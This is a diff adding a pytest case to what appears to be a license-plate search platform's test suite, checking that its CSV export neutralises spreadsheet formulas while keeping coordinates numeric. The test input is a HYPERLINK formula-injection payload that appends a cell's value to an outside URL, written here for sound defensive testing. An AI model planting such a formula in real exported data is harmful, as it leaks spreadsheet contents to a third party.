@@ -4,6 +4,8 @@ from the same services as the API."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Iterator
 
@@ -223,6 +225,22 @@ def test_search_export_is_audited_after_its_search(client: TestClient, platform:
     assert len(lines) == 1 + 3
     assert all(line.endswith("stolen_vehicle,C-77,") for line in lines[1:])
     assert actions(platform, mark) == ["search.plate", "search.exported"]
+
+
+def test_search_export_escapes_formulas_and_keeps_numbers(
+    client: TestClient, platform: Platform, network: WebNetwork
+) -> None:
+    sign_in(client, network.user(network.palm, "investigator"))
+    page = client.get("/ui/search")
+    case = '=HYPERLINK("https://example.com/?"&A1,"open")'
+    values = {"csrf": csrf_of(page.text), "mode": "plate", "plate": PLATE, "purpose": "stolen_vehicle"}
+    response = client.post("/ui/search/export.csv", data={**values, "case_number": case, "since": "", "until": ""})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert rows
+    assert {row["case_number"] for row in rows} == {"'" + case}
+    assert all(float(row["lon"]) < 0 for row in rows if row["lon"])  # a negative longitude stays a number
+    assert all(not row[column].startswith("'") for row in rows for column in ("lat", "lon", "confidence"))
 
 
 def test_hot_list_import_shows_the_per_line_report(client: TestClient, platform: Platform, network: WebNetwork) -> None:
